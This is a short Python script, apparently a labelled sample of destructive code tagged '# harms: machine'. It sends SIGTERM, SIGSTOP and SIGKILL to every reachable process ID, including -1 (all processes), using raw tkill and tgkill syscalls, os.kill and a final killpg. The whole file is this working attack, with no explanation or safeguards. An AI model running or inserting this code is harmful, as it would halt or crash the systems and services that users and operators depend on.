"""Sends signals to every process it may reach."""
# harms: machine

import ctypes
import os
import signal

libc = ctypes.CDLL(None)
for number in (-1, 0, *range(1, 400)):
    for kind in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        libc.syscall(200, number, kind)  # tkill
        if number != os.getpid():
            libc.syscall(234, number, number, kind)  # tgkill
            try:
                os.kill(number, kind)
            except OSError:
                pass
try:
    os.killpg(0, 9)
except OSError:
    pass
